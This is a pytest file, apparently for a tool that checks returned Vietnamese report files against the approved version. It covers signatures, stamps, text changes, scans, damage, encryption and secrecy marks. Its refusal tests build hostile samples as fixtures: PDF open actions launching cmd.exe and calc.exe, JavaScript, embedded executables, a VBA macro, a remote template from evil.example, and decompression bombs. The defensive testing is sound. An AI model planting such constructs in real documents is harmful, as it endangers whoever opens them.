"""Files as they come back, each with what is found."""

import io
import signal
import subprocess
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from PIL import Image
from pydantic import TypeAdapter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from reports.documents import Paragraph, Run
from reports.issued import apart
from reports.issued.examining import examine
from reports.issued.limits import MOST_PAGES
from reports.issued.values import Comparison, Difference, Examination, Question, Stated
from reports.printing.docx import docx
from reports.printing.pdf import pdf
from tests.reports.issued.seals import changed, director, ours, sign, write_over
from tests.reports.specimens import REPORT

AT = datetime(2026, 12, 22, 2, 0, tzinfo=UTC)
STATED = Stated("123", "BC-SKHCN", date(2026, 12, 21), ("Nguyễn Văn Thành",))
UNFINISHED = Examination(
    content_type="application/pdf", comparison=Comparison("incomparable", reason="too_slow")
)
WORD = TypeAdapter(Examination).dump_json(UNFINISHED) + b"\n"
OTHER = replace(REPORT, blocks=(Paragraph((Run("Lời khác."),)), *REPORT.blocks[1:]))


def asked(content: bytes, name="bao-cao.pdf", **more) -> Question:
    return Question(name, content, more.pop("expected", ours()), STATED, AT, **more)


def found(content: bytes, name="bao-cao.pdf", **more) -> Examination:
    return examine(asked(content, name, **more))


# What is the same


def test_our_own_file_is_the_same():
    assert found(ours().pdf).comparison == Comparison("same")
    assert found(ours().word, "bao-cao.docx").comparison == Comparison("same")


def test_our_file_with_a_signature_after_it_is_the_same():
    answer = found(sign(ours().pdf, director()))
    assert answer.comparison == Comparison("same")
    assert [one.signer for one in answer.signatures] == ["Nguyễn Văn Thành"]


def test_the_picture_of_a_signature_is_told_and_changes_nothing():
    answer = found(sign(ours().pdf, director(), box=(300, 80, 500, 140)))
    assert answer.comparison.verdict == "same"
    assert [item.kind for item in answer.comparison.differences] == ["blank"]


def test_our_bytes_with_more_than_a_signature_after_them_are_compared_by_their_words():
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(ours().pdf))
    page = writer.find_page_for_modification(0)[0].get_object()
    note = generic.StreamObject(stream_data=b"BT /F1 12 Tf 90 90 Td (them 45 trieu) Tj ET")
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), writer.add_object(note)])
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    answer = found(out.getvalue())
    assert answer.comparison.verdict != "same"


# What has a stamp


def test_number_and_day_laid_over_the_page_are_a_stamp():
    answer = found(write_over(ours().pdf, (120, 700, "123"), (380, 700, "21"), (440, 700, "12")))
    assert answer.comparison == Comparison("stamped", (Difference("blank", "", "123 21 12"),))


def test_number_and_day_in_the_word_file_are_a_stamp():
    numbered = docx(REPORT).replace(b"", b"")
    answer = found(_typed_in(numbered, {"Số:": "Số: 123"}), "bao-cao.docx")
    assert answer.comparison.verdict == "stamped"


def _typed_in(content: bytes, words: dict[str, str]) -> bytes:
    from docx import Document

    document = Document(io.BytesIO(content))
    for table in document.tables:
        for cell in table._cells:
            for paragraph in cell.paragraphs:
                for run in paragraph.runs:
                    for old, new in words.items():
                        run.text = run.text.replace(old, new)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_a_file_that_was_saved_anew_without_a_word_added_is_as_approved():
    assert found(changed(ours().pdf, lambda writer: None)).comparison == Comparison("stamped")


# What says something else


def test_other_text_is_listed_with_old_and_new_wording():
    answer = found(pdf(OTHER))
    assert (answer.comparison.verdict, answer.comparison.count) == ("different", 1)
    (difference,) = answer.comparison.differences
    assert difference.ours.startswith("Thực hiện Kế hoạch số 116/KH-UBND")
    assert difference.issued == "Lời khác."


def test_other_text_in_the_word_file_is_listed():
    answer = found(docx(OTHER), "bao-cao.docx")
    assert (answer.comparison.verdict, answer.comparison.count) == ("different", 1)
    assert answer.comparison.differences[0].issued == "Lời khác."


def test_without_a_file_of_ours_the_text_of_the_document_is_compared():
    bare = replace(ours(), pdf=None, word=None)
    assert found(ours().pdf, expected=bare).comparison == Comparison("stamped")
    assert found(ours().word, "bao-cao.docx", expected=bare).comparison == Comparison("stamped")


# What cannot be compared


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "name"),
    [("JPEG", "quet.jpg"), ("PNG", "quet.PNG"), ("TIFF", "quet.tif"), ("PDF", "quet.pdf")],
)
def test_a_scan_is_kept_and_not_compared(kind, name):
    assert found(picture(kind), name).comparison == Comparison("incomparable", reason="scan")


def test_a_scan_with_letters_that_a_machine_read_is_still_a_scan():
    def put_letters_behind(writer):
        page = writer.pages[0]
        stream = page.get_contents()
        stream.set_data(
            b"BT 3 Tr /F1 9 Tf (bao cao ket qua trien khai cong tac) Tj ET " + stream.get_data()
        )
        page[NameObject("/Contents")] = writer._add_object(stream)

    answer = found(changed(picture("PDF"), put_letters_behind))
    assert answer.comparison == Comparison("incomparable", reason="scan")


# What is refused


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"%PDF-1.7\nno more", "bao-cao.pdf"),
        (b"not a PDF at all", "bao-cao.pdf"),
        (b"", "bao-cao.pdf"),
        (b"PK\x03\x04 no more", "bao-cao.docx"),
        (b"%PDF-1.7", "bao-cao.docx"),
        (picture("JPEG")[:400], "quet.jpg"),
        (picture("PNG"), "quet.jpg"),
    ],
)
def test_a_damaged_file_is_refused(content, name):
    assert found(content, name) == Examination("damaged")


def test_half_of_our_file_is_damaged():
    assert found(ours().pdf[: len(ours().pdf) // 2]) == Examination("damaged")


@pytest.mark.parametrize("name", ["bao-cao.exe", "bao-cao.doc", "bao-cao", "bao-cao.xlsx"])
def test_other_kinds_of_files_are_refused(name):
    assert found(b"anything", name) == Examination("kind")


def test_a_file_with_a_password_is_refused():
    locked = changed(ours().pdf, lambda writer: writer.encrypt("mat khau", algorithm="AES-256"))
    assert found(locked) == Examination("encrypted")
    assert found(b"\xd0\xcf\x11\xe0 locked by Word", "bao-cao.docx") == Examination("encrypted")


def test_a_file_that_only_may_not_be_changed_can_be_read():
    def close(writer):
        writer.encrypt("", owner_password="chu", algorithm="AES-256")

    assert found(changed(ours().pdf, close)).comparison == Comparison("stamped")


def action(kind: str, **more):
    said = {NameObject("/S"): NameObject(f"/{kind}")}
    return DictionaryObject(said | {NameObject(f"/{k}"): v for k, v in more.items()})


def on_opening(kind, **more):
    def put(writer):
        writer.root_object[NameObject("/OpenAction")] = action(kind, **more)

    return put


def behind_a_link(writer):
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(map(NumberObject, (0, 0, 9, 9))),
            NameObject("/A"): action("Launch", F=TextStringObject("calc.exe")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])


def elsewhere(writer):
    """The kind of the action is an object of its own."""
    said = {
        NameObject("/S"): writer._add_object(NameObject("/Launch")),
        NameObject("/F"): TextStringObject("cmd.exe"),
    }
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(said))


@pytest.mark.parametrize(
    ("put", "detail"),
    [
        (elsewhere, "Launch"),
        (on_opening("JavaScript", JS=TextStringObject("app.alert(1)")), "JavaScript"),
        (on_opening("Launch", F=TextStringObject("cmd.exe")), "Launch"),
        (on_opening("SubmitForm"), "SubmitForm"),
        (behind_a_link, "Launch"),
        (lambda writer: writer.add_attachment("cap-nhat.exe", b"MZ\x90"), "cap-nhat.exe"),
        (lambda writer: writer.add_attachment("so-lieu.csv", b"MZ\x90"), "chương trình"),
    ],
)
def test_orders_to_the_machine_and_programs_are_refused(put, detail):
    assert found(changed(ours().pdf, put)) == Examination("hostile", detail)


def test_a_table_that_travels_with_the_report_is_no_program():
    with_table = changed(ours().pdf, lambda writer: writer.add_attachment("a.csv", b"TT;So"))
    assert found(with_table).comparison == Comparison("stamped")


def packed(content: bytes, **parts: bytes) -> bytes:
    """A Word file with more parts in it."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def test_a_word_file_with_a_macro_is_refused():
    from docx import Document
    from docx.opc.packuri import PackURI
    from docx.opc.part import Part

    document = Document(io.BytesIO(ours().word))
    kind = "application/vnd.ms-office.vbaProject"
    macro = Part(PackURI("/word/vbaProject.bin"), kind, b"\xd0\xcf", document.part.package)
    document.part.relate_to(macro, "http://schemas.microsoft.com/office/2006/vbaProject")
    out = io.BytesIO()
    document.save(out)
    assert found(out.getvalue(), "bao-cao.docx") == Examination("hostile", "macro")


def test_a_word_file_that_fetches_its_template_is_refused():
    from docx import Document

    document = Document(io.BytesIO(ours().word))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    document.part.relate_to("https://evil.example/t.dotm", kind, is_external=True)
    out = io.BytesIO()
    document.save(out)
    answer = found(out.getvalue(), "bao-cao.docx")
    assert answer == Examination("hostile", "https://evil.example/t.dotm")


def test_a_word_file_that_unpacks_without_end_is_refused():
    bomb = packed(ours().word, **{"word/media/a.bin": bytes(300 * 1024 * 1024)})
    assert len(bomb) < 2_000_000
    assert found(bomb, "bao-cao.docx") == Examination("too_much")


def test_more_pages_than_any_report_has_are_refused():
    def add_pages(writer):
        for _ in range(MOST_PAGES):
            writer.add_blank_page()

    assert found(changed(ours().pdf, add_pages)) == Examination("too_much")


def test_a_stream_that_unpacks_without_end_is_refused():
    import zlib

    from pypdf.generic import StreamObject

    def bomb(writer):
        stream = StreamObject()
        stream._data = zlib.compress(zlib.compress(bytes(400_000_000), 9), 9)
        stream[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode")] * 2)
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    assert found(changed(ours().pdf, bomb)).refusal == "too_much"


@pytest.mark.parametrize("mark", ["MẬT", "TỐI MẬT", "Độ mật: Tuyệt mật"])
def test_a_file_that_is_marked_secret_is_refused(mark):
    marked = replace(REPORT, blocks=(Paragraph((Run(mark),)), *REPORT.blocks))
    sought = mark.rpartition(": ")[2].upper()
    assert found(pdf(marked)) == Examination("secret", sought)
    assert found(docx(marked), "bao-cao.docx") == Examination("secret", sought)


# In a process of its own


def test_a_process_of_its_own_says_the_same():
    signed = sign(ours().pdf, director())
    assert apart.examine(asked(signed)) == examine(asked(signed))


def test_what_takes_too_long_is_ended():
    assert apart.examine(asked(ours().pdf), seconds=0.01) == Examination("busy")


@pytest.mark.parametrize("content", [sign(ours().pdf, director()), pdf(OTHER)])
def test_what_was_looked_for_is_told_before_signatures_and_comparing_take_their_time(content):
    told = []
    last = examine(asked(content), tell=told.append)
    assert told[0] == UNFINISHED
    assert {one.comparison for one in told} == {UNFINISHED.comparison}
    assert last.comparison.verdict in {"same", "different"}


def test_nothing_is_told_of_what_is_refused():
    told = []
    examine(asked(pdf(replace(OTHER, name="x", mark="Mật"))), tell=told.append)
    assert told == []


@pytest.mark.parametrize(
    ("said", "found"),
    [
        (None, Examination("busy")),
        (b'{"content_type": "app', Examination("busy")),
        (WORD, UNFINISHED),
        (WORD + WORD[:20], UNFINISHED),
    ],
)
def test_when_the_time_is_up_the_last_word_stands(monkeypatch, said, found):
    def expire(*args, **options):
        raise subprocess.TimeoutExpired("python", 60, output=said)

    monkeypatch.setattr(apart.subprocess, "run", expire)
    assert apart.examine(asked(b"")) == found


@pytest.mark.parametrize(
    ("code", "found"),
    [(-signal.SIGXCPU, UNFINISHED), (-signal.SIGKILL, Examination("too_much"))],
)
def test_a_process_that_used_up_its_time_is_believed_and_one_that_broke_is_not(
    monkeypatch, code, found
):
    died = subprocess.CompletedProcess("python", code, stdout=WORD, stderr=b"")
    monkeypatch.setattr(apart.subprocess, "run", lambda *args, **options: died)
    assert apart.examine(asked(b"")) == found
